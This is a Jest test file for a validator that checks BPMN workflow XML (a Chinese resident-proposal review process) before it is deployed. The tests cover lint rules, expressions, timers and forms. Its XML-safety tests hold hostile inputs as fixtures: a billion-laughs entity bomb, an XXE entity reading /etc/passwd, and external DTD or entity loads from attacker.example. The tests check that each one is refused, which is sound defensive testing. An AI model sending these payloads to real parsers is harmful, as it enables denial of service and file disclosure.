import { describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import * as pluginFeel from 'bpmnlint-plugin-platform/lib/feel.js';
import {
  checkDueDateLiteral,
  checkTimerLiteral,
  isIsoCycle,
  isIsoDuration,
} from 'bpmnlint-plugin-platform/lib/iso8601.js';
import { checkFeel } from '../server/expressions/feel.js';
import { MAX_BPMN_BYTES, MAX_ELEMENT_COUNT, MAX_ELEMENT_DEPTH } from '../server/bpmn/limits.js';
import { lintRules, MANDATORY_PLATFORM_RULES } from '../server/bpmn/lint.js';
import { parseBpmn } from '../server/bpmn/moddle.js';
import { MAX_PROBLEMS, validateDeployment, type Problem } from '../server/bpmn/validate.js';
import { checkXmlSafety } from '../server/bpmn/xml-safety.js';

// ---------------------------------------------------------------------------------------------------------------
// Fixtures: a process body is wrapped in definitions and given diagram interchange (laid out left to right), so
// that a fixture differs from the valid process only in what a test is about.

const NS =
  'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" ' +
  'xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" ' +
  'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"';

const NODE = /<bpmn:(startEvent|endEvent|intermediateCatchEvent|boundaryEvent|userTask|serviceTask|scriptTask|task|exclusiveGateway|parallelGateway)\s+id="([^"]+)"/g;
const FLOW = /<bpmn:sequenceFlow\s+id="([^"]+)"[^>]*?sourceRef="([^"]+)"[^>]*?targetRef="([^"]+)"/g;

function diagram(processId: string, body: string): string {
  const bounds = new Map<string, { x: number; y: number; w: number; h: number }>();
  let i = 0;
  for (const [, kind, id] of body.matchAll(NODE)) {
    const x = 100 + i++ * 160;
    const size = /Event$/.test(kind) ? [36, 36] : /Gateway$/.test(kind) ? [50, 50] : [100, 80];
    bounds.set(id, { x, y: 140 - size[1] / 2, w: size[0], h: size[1] });
  }
  const shapes = [...bounds].map(
    ([id, b]) =>
      `<bpmndi:BPMNShape id="${id}_di" bpmnElement="${id}"><dc:Bounds x="${b.x}" y="${b.y}" width="${b.w}" height="${b.h}" /></bpmndi:BPMNShape>`,
  );
  const edges = [...body.matchAll(FLOW)].map(([, id, source, target]) => {
    const s = bounds.get(source) ?? { x: 0, y: 0, w: 0, h: 0 };
    const t = bounds.get(target) ?? { x: 0, y: 0, w: 0, h: 0 };
    return (
      `<bpmndi:BPMNEdge id="${id}_di" bpmnElement="${id}">` +
      `<di:waypoint x="${s.x + s.w}" y="${s.y + s.h / 2}" /><di:waypoint x="${t.x}" y="${t.y + t.h / 2}" /></bpmndi:BPMNEdge>`
    );
  });
  return (
    `<bpmndi:BPMNDiagram id="Diagram_1"><bpmndi:BPMNPlane id="Plane_1" bpmnElement="${processId}">` +
    `${shapes.join('')}${edges.join('')}</bpmndi:BPMNPlane></bpmndi:BPMNDiagram>`
  );
}

function definitions(body: string, { id = 'residentProposal', name = '居民提案审议', executable = true } = {}): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions ${NS} id="Definitions_1" targetNamespace="http://example.org/community">
  <bpmn:process id="${id}" name="${name}" isExecutable="${executable}">
${body}
  </bpmn:process>
  ${diagram(id, body)}
</bpmn:definitions>`;
}

const START = `
    <bpmn:startEvent id="start" name="提交提案">
      <bpmn:extensionElements>
        <camunda:formData>
          <camunda:formField id="title" label="提案标题" type="string">
            <camunda:validation><camunda:constraint name="required" /><camunda:constraint name="maxlength" config="100" /></camunda:validation>
          </camunda:formField>
          <camunda:formField id="budget" label="预算（元）" type="long">
            <camunda:validation><camunda:constraint name="min" config="0" /></camunda:validation>
          </camunda:formField>
        </camunda:formData>
      </bpmn:extensionElements>
      <bpmn:outgoing>f1</bpmn:outgoing>
    </bpmn:startEvent>`;

const APPROVAL_FORM = `
      <bpmn:extensionElements>
        <camunda:formData>
          <camunda:formField id="decision" label="审核决定" type="enum">
            <camunda:validation><camunda:constraint name="required" /></camunda:validation>
            <camunda:value id="approve" name="通过" /><camunda:value id="reject" name="不通过" /><camunda:value id="return" name="退回修改" />
          </camunda:formField>
          <camunda:formField id="opinion" label="审批意见" type="string">
            <camunda:properties><camunda:property id="widget" value="textarea" /></camunda:properties>
          </camunda:formField>
        </camunda:formData>
      </bpmn:extensionElements>`;

interface Parts {
  review?: string;
  condition?: string;
  service?: string;
  timer?: string;
  extra?: string;
}

function reviewTask(attributes = 'camunda:candidateGroups="committee, staff" camunda:dueDate="P10D" camunda:priority="50"', form = APPROVAL_FORM, inner = ''): string {
  return `
    <bpmn:userTask id="review" name="居委会审核" ${attributes}>
      <bpmn:documentation>《社区议事规则》第四条
居委会应在十日内审核提案。</bpmn:documentation>${form}
      <bpmn:incoming>f1</bpmn:incoming>
      <bpmn:outgoing>f2</bpmn:outgoing>${inner}
    </bpmn:userTask>`;
}

const PUBLISH = `
    <bpmn:serviceTask id="publish" name="公示结果" camunda:type="external" camunda:topic="publish-notice">
      <bpmn:extensionElements>
        <camunda:inputOutput>
          <camunda:inputParameter name="template">proposal-result</camunda:inputParameter>
          <camunda:inputParameter name="title">\${"提案审议结果：" + title}</camunda:inputParameter>
          <camunda:inputParameter name="days">5</camunda:inputParameter>
        </camunda:inputOutput>
      </bpmn:extensionElements>
      <bpmn:incoming>fApprove</bpmn:incoming>
      <bpmn:outgoing>f3</bpmn:outgoing>
    </bpmn:serviceTask>`;

function body(parts: Parts = {}): string {
  const condition = parts.condition ?? '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${decision = "approve"}</bpmn:conditionExpression>';
  const timer = parts.timer ?? '<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">P5D</bpmn:timeDuration>';
  return `${START}${parts.review ?? reviewTask()}
    <bpmn:exclusiveGateway id="decided" name="是否通过？" default="fReject">
      <bpmn:incoming>f2</bpmn:incoming>
      <bpmn:outgoing>fApprove</bpmn:outgoing>
      <bpmn:outgoing>fReject</bpmn:outgoing>
    </bpmn:exclusiveGateway>${parts.service ?? PUBLISH}
    <bpmn:intermediateCatchEvent id="wait" name="公示期满">
      <bpmn:incoming>f3</bpmn:incoming>
      <bpmn:outgoing>f4</bpmn:outgoing>
      <bpmn:timerEventDefinition id="waitTimer">${timer}</bpmn:timerEventDefinition>
    </bpmn:intermediateCatchEvent>
    <bpmn:endEvent id="done" name="已公示"><bpmn:incoming>f4</bpmn:incoming></bpmn:endEvent>
    <bpmn:endEvent id="rejected" name="未通过"><bpmn:incoming>fReject</bpmn:incoming></bpmn:endEvent>${parts.extra ?? ''}
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="review" />
    <bpmn:sequenceFlow id="f2" sourceRef="review" targetRef="decided" />
    <bpmn:sequenceFlow id="fApprove" name="通过" sourceRef="decided" targetRef="publish">${condition}</bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="fReject" name="不通过" sourceRef="decided" targetRef="rejected" />
    <bpmn:sequenceFlow id="f3" sourceRef="publish" targetRef="wait" />
    <bpmn:sequenceFlow id="f4" sourceRef="wait" targetRef="done" />`;
}

const VALID = definitions(body());
const TOPICS = new Set(['publish-notice', 'tally-votes']);

async function problemsOf(xml: string, topics: Set<string> | undefined = TOPICS): Promise<Problem[]> {
  const result = await validateDeployment(xml, topics);
  if (result.ok) throw new Error('expected the deployment to be refused');
  expect(result.problems.length).toBeGreaterThan(0);
  for (const problem of result.problems) {
    expect(typeof problem.code).toBe('string');
    expect(problem.message).toMatch(/[\u4e00-\u9fff]/); // every message is (at least partly) Chinese
  }
  return result.problems;
}

function codes(problems: Problem[]): string[] {
  return problems.filter((p) => p.severity !== 'warning').map((p) => p.code);
}

// ---------------------------------------------------------------------------------------------------------------

describe('validateDeployment: a valid process', () => {
  it('passes and yields the model the runtime needs', async () => {
    const result = await validateDeployment(VALID, TOPICS);
    if (!result.ok) throw new Error(JSON.stringify(result.problems, null, 2));
    const { model } = result;
    expect(model.key).toBe('residentProposal');
    expect(model.name).toBe('居民提案审议');
    expect(model.definitionsId).toBe('Definitions_1');
    expect(model.xml).toBe(VALID);

    const review = model.userTasks.get('review');
    expect(review).toBeDefined();
    expect(review?.name).toBe('居委会审核');
    expect(review?.candidateGroups).toEqual(['committee', 'staff']);
    expect(review?.candidateUsers).toEqual([]);
    expect(review?.assignee).toBeNull();
    expect(review?.dueDate).toBe('P10D');
    expect(review?.priority).toBe(50);
    expect(review?.multiInstance).toBe(false);
    expect(review?.documentation).toBe('《社区议事规则》第四条\n居委会应在十日内审核提案。');
    expect(review?.form?.approval).toBe(true);
    expect(review?.form?.fields.map((f) => f.id)).toEqual(['decision', 'opinion']);
    expect(review?.form?.fields[1].widget).toBe('textarea');

    expect(model.startForm?.fields.map((f) => [f.id, f.type])).toEqual([
      ['title', 'string'],
      ['budget', 'long'],
    ]);
    expect(model.startForm?.fields[0].constraints).toEqual({ required: true, maxlength: 100 });

    expect(model.serviceTasks.get('publish')).toEqual({
      id: 'publish',
      name: '公示结果',
      topic: 'publish-notice',
      inputs: { template: 'proposal-result', title: '${"提案审议结果：" + title}', days: '5' },
    });
    expect(model.documentation.get('review')).toMatch(/^《社区议事规则》第四条/);
    expect(result.warnings.every((w) => w.severity === 'warning')).toBe(true);
  });

  it('accepts the file with a byte order mark, without known topics, and with a multi-instance task', async () => {
    expect((await validateDeployment('\uFEFF' + VALID)).ok).toBe(true);
    const multi = reviewTask(
      'camunda:candidateGroups="expert"',
      APPROVAL_FORM,
      `
      <bpmn:multiInstanceLoopCharacteristics camunda:collection="\${experts}" camunda:elementVariable="expert">
        <bpmn:completionCondition xsi:type="bpmn:tFormalExpression">\${count(loopOutput[item.decision = "approve"]) >= 2}</bpmn:completionCondition>
      </bpmn:multiInstanceLoopCharacteristics>`,
    );
    const result = await validateDeployment(definitions(body({ review: multi })), TOPICS);
    if (!result.ok) throw new Error(JSON.stringify(result.problems, null, 2));
    expect(result.model.userTasks.get('review')?.multiInstance).toBe(true);
  });

  it('accepts literal ISO timers and ${FEEL} ones', async () => {
    for (const timer of [
      '<bpmn:timeDate xsi:type="bpmn:tFormalExpression">2030-01-31T09:00:00+08:00</bpmn:timeDate>',
      '<bpmn:timeDate xsi:type="bpmn:tFormalExpression">2030-01-31</bpmn:timeDate>',
      '<bpmn:timeCycle xsi:type="bpmn:tFormalExpression">R3/PT10M</bpmn:timeCycle>',
      '<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">${publicityDays}</bpmn:timeDuration>',
    ]) {
      const result = await validateDeployment(definitions(body({ timer })), TOPICS);
      expect(result.ok ? 'ok' : JSON.stringify(result.problems)).toBe('ok');
    }
  });
});

describe('XML safety', () => {
  it('refuses malformed XML with a position', async () => {
    const broken = VALID.replace('</bpmn:userTask>', '</bpmn:usertask>');
    const problems = await problemsOf(broken);
    expect(problems).toHaveLength(1);
    expect(problems[0].code).toBe('xml/malformed');
    expect(problems[0].line).toBeGreaterThan(1);
    expect(problems[0].message).toMatch(/^XML 格式错误（第 \d+ 行第 \d+ 列）/);

    expect(codes(await problemsOf('<bpmn:definitions'))).toEqual(['xml/malformed']);
    expect(codes(await problemsOf('<a><b></a>'))).toEqual(['xml/malformed']);
    expect(codes(await problemsOf('<a>&undefined;</a>'))).toEqual(['xml/malformed']);
    expect(codes(await problemsOf(''))).toEqual(['xml/empty']);
    expect(codes(await problemsOf('<x:a xmlns:y="urn:y"/>'))).toEqual(['xml/malformed']); // unbound prefix
  });

  it('refuses a billion-laughs document before any parser expands it', async () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<bpmn:definitions ${NS} id="d"><bpmn:documentation>&lol9;</bpmn:documentation></bpmn:definitions>`;
    const started = Date.now();
    const problems = await problemsOf(lol);
    expect(Date.now() - started).toBeLessThan(1000);
    expect(codes(problems)).toEqual(['xml/doctype', 'xml/entity']);
    expect(problems[0]).toMatchObject({ line: 2, column: 1 });
    expect(problems[0].message).toContain('DOCTYPE');
  });

  it('refuses external entities (XXE), also hidden behind a BOM, whitespace or lower case', async () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><bpmn:definitions ${NS} id="d"><bpmn:documentation>&xxe;</bpmn:documentation></bpmn:definitions>`;
    expect(codes(await problemsOf(xxe))).toEqual(['xml/doctype', 'xml/entity']);
    expect(codes(await problemsOf('\uFEFF' + xxe))).toEqual(['xml/doctype', 'xml/entity']);
    expect(codes(await problemsOf('\n\n   ' + xxe.toLowerCase()))).toEqual(['xml/doctype', 'xml/entity']);
    expect(codes(await problemsOf(`<?xml version="1.0"?>\n<!doctype bpmn:definitions SYSTEM "http://attacker.example/x.dtd">\n<bpmn:definitions ${NS} id="d"/>`))).toEqual([
      'xml/doctype',
    ]);
    // a parameter entity without a DOCTYPE is still refused
    expect(codes(await problemsOf(`<!ENTITY % p SYSTEM "http://attacker.example/p"><a/>`))).toEqual(['xml/entity']);
  });

  it('refuses a file larger than the documented limit without parsing it', async () => {
    expect(MAX_BPMN_BYTES).toBe(2 * 1024 * 1024);
    const padding = `<bpmn:documentation>${'政'.repeat(Math.ceil(MAX_BPMN_BYTES / 3))}</bpmn:documentation>`;
    const big = VALID.replace('<bpmn:startEvent', `${padding}<bpmn:startEvent`);
    expect(big.length).toBeLessThan(MAX_BPMN_BYTES); // over the limit in bytes (UTF-8), not in characters
    const problems = await problemsOf(big);
    expect(codes(problems)).toEqual(['xml/too-large']);
    expect(problems[0].message).toContain('2 MiB');
    expect(codes(await problemsOf('<a>' + ' '.repeat(MAX_BPMN_BYTES) + '</a>'))).toEqual(['xml/too-large']);
  });

  it('refuses 10,000-deep nesting without recursion', async () => {
    const deep = `<bpmn:definitions ${NS} id="d">${'<a>'.repeat(10000)}${'</a>'.repeat(10000)}</bpmn:definitions>`;
    const problems = await problemsOf(deep);
    expect(codes(problems)).toEqual(['xml/too-deep']);
    expect(problems[0].message).toContain(String(MAX_ELEMENT_DEPTH));
  });

  it('refuses too many elements', async () => {
    const many = `<bpmn:definitions ${NS} id="d">${'<x/>'.repeat(MAX_ELEMENT_COUNT + 1)}</bpmn:definitions>`;
    expect(codes(await problemsOf(many))).toEqual(['xml/too-many-elements']);
  });

  it('refuses XML that is not BPMN', async () => {
    expect(codes(await problemsOf('<definitions xmlns="urn:other"/>'))).toEqual(['xml/not-bpmn']);
    expect(checkXmlSafety(42)).toEqual([expect.objectContaining({ code: 'xml/not-text' })]);
  });
});

describe('moddle', () => {
  it('turns unknown elements, unknown attributes and unresolved references into problems', async () => {
    const unknown = VALID.replace('<bpmn:endEvent id="done"', '<bpmn:wormhole id="w1" /><bpmn:endEvent id="done"')
      .replace('id="review" name="居委会审核"', 'id="review" name="居委会审核" colour="red"')
      .replace('targetRef="done"', 'targetRef="nowhere"');
    const problems = await problemsOf(unknown);
    expect(codes(problems).sort()).toEqual(['moddle/unknown-attribute', 'moddle/unparsable-content', 'moddle/unresolved-reference']);
    expect(problems.find((p) => p.code === 'moddle/unknown-attribute')).toMatchObject({ elementId: 'review' });
    expect(problems.find((p) => p.code === 'moddle/unresolved-reference')?.message).toContain('nowhere');
    const unparsable = problems.find((p) => p.code === 'moddle/unparsable-content');
    expect(unknown.split('\n')[(unparsable?.line ?? 0) - 1]).toContain('<bpmn:wormhole');
    expect(unparsable?.message).toContain('bpmn:Wormhole');
  });

  it('reports duplicate ids', async () => {
    const duplicate = VALID.replace('<bpmn:endEvent id="rejected"', '<bpmn:endEvent id="done"');
    const problems = await problemsOf(duplicate);
    expect(problems.find((p) => p.code === 'moddle/duplicate-id')?.message).toBe('元素标识“done”重复');
  });

  it('parses with the camunda extension', async () => {
    const parsed = await parseBpmn(VALID);
    expect(parsed.warnings).toEqual([]);
    expect(parsed.elementsById.review.candidateGroups).toBe('committee, staff');
    expect(parsed.definitions.$type).toBe('bpmn:Definitions');
  });
});

describe('process checks', () => {
  it('requires an executable process', async () => {
    const problems = await problemsOf(definitions(body(), { executable: false }));
    expect(codes(problems)).toContain('bpmn/no-executable-process');
  });

  it('requires exactly one executable process', async () => {
    const second = VALID.replace(
      '<bpmndi:BPMNDiagram',
      '<bpmn:process id="other" name="另一个" isExecutable="true" /><bpmndi:BPMNDiagram',
    );
    expect(codes(await problemsOf(second))).toContain('bpmn/multiple-executable-processes');
  });

  it('refuses a process id that cannot be a key', async () => {
    const problems = await problemsOf(definitions(body(), { id: `p${'x'.repeat(120)}` }));
    expect(codes(problems)).toEqual(['bpmn/invalid-process-key']);
    expect(problems[0].message).toContain('不能用作流程键');
  });

  it('requires a user task to be assigned', async () => {
    const problems = await problemsOf(definitions(body({ review: reviewTask('') })));
    expect(codes(problems)).toEqual(['lint/platform/user-task-assignment']);
    expect(problems[0].elementId).toBe('review');
    expect(problems[0].message).toContain('用户任务“居委会审核”（review）没有指定办理人');
    for (const attribute of ['camunda:assignee="${proposer}"', 'camunda:candidateUsers="wang, li"']) {
      expect((await validateDeployment(definitions(body({ review: reviewTask(attribute) })))).ok).toBe(true);
    }
  });

  it('requires a user task form', async () => {
    const problems = await problemsOf(definitions(body({ review: reviewTask('camunda:candidateGroups="staff"', '') })));
    expect(codes(problems)).toEqual(['lint/platform/user-task-form']);
  });

  it('refuses expressions that do not parse as FEEL', async () => {
    const badCondition = '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${decision = "approve" and}</bpmn:conditionExpression>';
    let problems = await problemsOf(definitions(body({ condition: badCondition })));
    expect(codes(problems)).toEqual(['lint/platform/feel-expressions']);
    expect(problems[0]).toMatchObject({ elementId: 'fApprove' });
    expect(problems[0].message).toContain('表达式语法错误');

    problems = await problemsOf(definitions(body({ review: reviewTask('camunda:assignee="${if x then}"') })));
    expect(codes(problems)).toEqual(['lint/platform/feel-expressions']);
    expect(problems[0].message).toContain('办理人');

    problems = await problemsOf(definitions(body({ review: reviewTask('camunda:candidateGroups="staff" camunda:dueDate="${for i in 1..100000000 return i}"') })));
    expect(problems[0].message).toContain('范围过大');

    const badInput = PUBLISH.replace('${"提案审议结果：" + title}', '${"未闭合}');
    problems = await problemsOf(definitions(body({ service: badInput })));
    expect(codes(problems)).toEqual(['lint/platform/feel-expressions']);
    expect(problems[0].message).toContain('输入参数“title”');
  });

  it('requires conditions to be expressions, written ${…} or =…', async () => {
    const literal = '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">decision == "approve"</bpmn:conditionExpression>';
    const problems = await problemsOf(definitions(body({ condition: literal })));
    expect(codes(problems)).toEqual(['lint/platform/feel-expressions']);
    expect(problems[0].message).toContain('必须是表达式：写成 ${FEEL} 或 =FEEL');
    // Camunda 8 writes the same FEEL after "="
    const camunda8 = '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">= decision = "approve"</bpmn:conditionExpression>';
    expect((await validateDeployment(definitions(body({ condition: camunda8 })))).ok).toBe(true);
    const broken8 = '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">= decision = "approve" and</bpmn:conditionExpression>';
    expect(codes(await problemsOf(definitions(body({ condition: broken8 }))))).toEqual(['lint/platform/feel-expressions']);
  });

  it('refuses JavaScript conditions', async () => {
    const js = '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="javascript">next(null, environment.variables.decision === "approve")</bpmn:conditionExpression>';
    const problems = await problemsOf(definitions(body({ condition: js })));
    expect(codes(problems)).toEqual(['lint/platform/no-javascript-condition']);
    expect(problems[0]).toMatchObject({ elementId: 'fApprove' });
    expect(problems[0].message).toContain('javascript');
    // an explicit FEEL language is fine
    const feel = '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="feel">${decision = "approve"}</bpmn:conditionExpression>';
    expect((await validateDeployment(definitions(body({ condition: feel })))).ok).toBe(true);
  });

  it('refuses script tasks, whatever the language', async () => {
    const withScript = (format: string) =>
      body({ service: PUBLISH.replace('<bpmn:serviceTask', `<bpmn:scriptTask id="calc" name="计算" scriptFormat="${format}"><bpmn:incoming>fApprove</bpmn:incoming><bpmn:outgoing>fCalc</bpmn:outgoing><bpmn:script>1</bpmn:script></bpmn:scriptTask><bpmn:serviceTask`).replace('<bpmn:incoming>fApprove</bpmn:incoming>\n      <bpmn:outgoing>f3', '<bpmn:incoming>fCalc</bpmn:incoming>\n      <bpmn:outgoing>f3') })
        .replace('targetRef="publish"', 'targetRef="calc"')
        .replace('<bpmn:sequenceFlow id="f3"', '<bpmn:sequenceFlow id="fCalc" sourceRef="calc" targetRef="publish" /><bpmn:sequenceFlow id="f3"');
    for (const format of ['javascript', 'groovy', 'feel']) {
      const problems = await problemsOf(definitions(withScript(format)));
      expect(codes(problems)).toEqual(['lint/platform/no-script-task']);
      expect(problems[0]).toMatchObject({ elementId: 'calc' });
      expect(problems[0].message).toContain('脚本任务“计算”（calc）不被允许');
    }
    // a camunda:script inside an input parameter is refused too
    const scripted = PUBLISH.replace(
      '<camunda:inputParameter name="days">5</camunda:inputParameter>',
      '<camunda:inputParameter name="days"><camunda:script scriptFormat="javascript">5</camunda:script></camunda:inputParameter>',
    );
    expect(codes(await problemsOf(definitions(body({ service: scripted }))))).toEqual(['lint/platform/no-script-task']);
  });

  it('refuses unknown service topics and non-external service tasks', async () => {
    const unknown = PUBLISH.replace('camunda:topic="publish-notice"', 'camunda:topic="send-fax"');
    const problems = await problemsOf(definitions(body({ service: unknown })));
    expect(codes(problems)).toEqual(['bpmn/unknown-topic']);
    expect(problems[0].message).toContain('“send-fax”不存在');
    expect(problems[0].message).toContain('publish-notice');
    // without a registry the topic is not checked
    expect((await validateDeployment(definitions(body({ service: unknown })))).ok).toBe(true);

    const java = PUBLISH.replace('camunda:type="external" camunda:topic="publish-notice"', 'camunda:class="org.example.Publish"');
    const javaProblems = await problemsOf(definitions(body({ service: java })));
    expect(codes(javaProblems).every((code) => code === 'lint/platform/service-task-topic')).toBe(true);
    expect(javaProblems.map((p) => p.message).join('\n')).toContain('camunda:class');
  });

  it('refuses timers that are not ISO 8601', async () => {
    for (const timer of [
      '<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">5 days</bpmn:timeDuration>',
      '<bpmn:timeDate xsi:type="bpmn:tFormalExpression">2030-02-30</bpmn:timeDate>',
      '<bpmn:timeCycle xsi:type="bpmn:tFormalExpression">0 0 9 * * ?</bpmn:timeCycle>',
    ]) {
      const problems = await problemsOf(definitions(body({ timer })));
      expect(codes(problems)).toEqual(['lint/platform/iso-8601']);
      expect(problems[0].elementId).toBe('wait');
    }
    const dueDate = await problemsOf(definitions(body({ review: reviewTask('camunda:candidateGroups="staff" camunda:dueDate="ten days"') })));
    expect(codes(dueDate)).toEqual(['lint/platform/iso-8601']);
  });

  it('reports form schema problems and bad priorities', async () => {
    const form = APPROVAL_FORM.replace(/<camunda:formField id="opinion"[\s\S]*?<\/camunda:formField>/, '');
    const problems = await problemsOf(definitions(body({ review: reviewTask('camunda:candidateGroups="staff"', form) })));
    expect(codes(problems)).toEqual(['form/invalid']);
    expect(problems[0].message).toContain('审批意见字段（opinion');
    const priority = await problemsOf(definitions(body({ review: reviewTask('camunda:candidateGroups="staff" camunda:priority="high"') })));
    expect(codes(priority)).toEqual(['bpmn/invalid-priority']);
  });

  it('applies bpmnlint recommended rules: what blocks execution refuses, style (labels, diagram interchange) warns', async () => {
    const unlabelled = VALID.replace('id="review" name="居委会审核"', 'id="review"').replace('id="fApprove" name="通过"', 'id="fApprove"');
    const deployed = await validateDeployment(unlabelled, TOPICS);
    if (!deployed.ok) throw new Error(`unlabelled elements must not refuse: ${JSON.stringify(deployed.problems)}`);
    const labels = deployed.warnings.filter((w) => w.code === 'lint/label-required');
    expect(labels.map((w) => w.elementId).sort()).toEqual(['fApprove', 'review']);
    expect(labels.every((w) => w.severity === 'warning' && w.message.startsWith('缺少名称'))).toBe(true);
    const withoutDi = VALID.replace(/<bpmndi:BPMNDiagram[\s\S]*<\/bpmndi:BPMNDiagram>/, '');
    const hidden = await validateDeployment(withoutDi, TOPICS);
    expect(hidden.ok && hidden.warnings.some((w) => w.code === 'lint/no-bpmndi')).toBe(true);
    // a branch without a condition leaves the choice to chance: that refuses
    const unconditional = definitions(body({ condition: '' }));
    expect(codes(await problemsOf(unconditional))).toEqual(['lint/conditional-flows']);
  });

  it('refuses elements nothing on this platform runs: send, receive, business-rule and manual tasks, call activities, waiting for messages', async () => {
    for (const [element, type] of [
      ['<bpmn:sendTask id="extraSend" name="发送通知" />', '发送任务'],
      ['<bpmn:receiveTask id="extraReceive" name="等待回执" />', '接收任务'],
      ['<bpmn:businessRuleTask id="extraRule" name="规则判断" />', '业务规则任务'],
      ['<bpmn:manualTask id="extraManual" name="线下办理" />', '手工任务'],
      ['<bpmn:callActivity id="extraCall" name="调用子流程" calledElement="other" />', '调用活动'],
      ['<bpmn:intermediateCatchEvent id="extraMessage" name="等待回复"><bpmn:messageEventDefinition /></bpmn:intermediateCatchEvent>', '中间捕获事件'],
    ]) {
      const problems = await problemsOf(definitions(body({ extra: element })));
      const supported = problems.filter((p) => p.code === 'lint/platform/supported-elements');
      expect(supported).toHaveLength(1);
      expect(supported[0]!.elementId).toMatch(/^extra/);
      expect(supported[0]!.message).toContain(type);
    }
  });

  it('lists at most MAX_PROBLEMS problems', async () => {
    const tasks = Array.from({ length: 300 }, (_, i) => `<bpmn:task id="extra${i}" name="附加${i}" />`).join('');
    const problems = await problemsOf(definitions(body()).replace(/<bpmndi:BPMNDiagram[\s\S]*<\/bpmndi:BPMNDiagram>/, '').replace('</bpmn:process>', `${tasks}</bpmn:process>`));
    expect(problems).toHaveLength(MAX_PROBLEMS + 1);
    expect(problems[MAX_PROBLEMS].code).toBe('problems/truncated');
  });

  it('reports several problems at once', async () => {
    const xml = definitions(body({ review: reviewTask('', APPROVAL_FORM), condition: '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="javascript">true</bpmn:conditionExpression>' }));
    expect(new Set(codes(await problemsOf(xml)))).toEqual(
      new Set(['lint/platform/user-task-assignment', 'lint/platform/no-javascript-condition']),
    );
  });
});

describe('lint configuration', () => {
  it('uses .bpmnlintrc: bpmnlint recommended plus the platform rules as errors', async () => {
    const root = fileURLToPath(new URL('../../', import.meta.url));
    const config = JSON.parse(readFileSync(`${root}.bpmnlintrc`, 'utf8'));
    expect(config.extends).toEqual(['bpmnlint:recommended', 'plugin:platform/recommended']);
    const rules = await lintRules();
    for (const rule of MANDATORY_PLATFORM_RULES) expect(rules[rule]).toBe('error');
    // errors block execution, warnings are style
    for (const rule of ['conditional-flows', 'no-complex-gateway', 'no-implicit-start', 'no-disconnected', 'start-event-required']) {
      expect(rules[rule]).toBe('error');
    }
    for (const rule of ['label-required', 'no-implicit-split', 'no-implicit-end', 'end-event-required', 'no-bpmndi', 'no-inclusive-gateway']) {
      expect(rules[rule]).toBe('warn');
    }
  });
});

describe('shared checking code of the plugin', () => {
  it('checks FEEL exactly like server/expressions/feel.ts', () => {
    for (const source of ['a = 1', 'a = = 1', 'if x then', 'sum(for i in 1..10 return i)', 'for i in 1..100000 return i', 'function(x) x', '"abc', 'x.y[z > 1]', '']) {
      expect(pluginFeel.checkFeel(source)).toBe(checkFeel(source));
    }
    expect(pluginFeel.checkExpressionText('plain text')).toBeNull();
    expect(pluginFeel.checkExpressionText('${}')).toBe('表达式为空');
  });

  it('knows ISO 8601 timers and due dates', () => {
    expect(isIsoDuration('P1Y2M10DT2H30M')).toBe(true);
    expect(isIsoDuration('PT')).toBe(false);
    expect(isIsoDuration('P')).toBe(false);
    expect(isIsoCycle('R/P1D')).toBe(true);
    expect(isIsoCycle('R5/2030-01-01T00:00:00Z/PT1H')).toBe(true);
    expect(isIsoCycle('R/PT1H/2030-01-01T00:00:00Z')).toBe(true);
    expect(isIsoCycle('0 0 * * *')).toBe(false);
    expect(checkTimerLiteral('timeDate', '2030-01-01T25:00:00Z')).toContain('不是 ISO 8601');
    expect(checkTimerLiteral('timeDuration', 'PT12H')).toBeNull();
    expect(checkDueDateLiteral('2030-12-31')).toBeNull();
    expect(checkDueDateLiteral('P1Y')).toBeNull();
    expect(checkDueDateLiteral('tomorrow')).toContain('办理期限');
  });
});
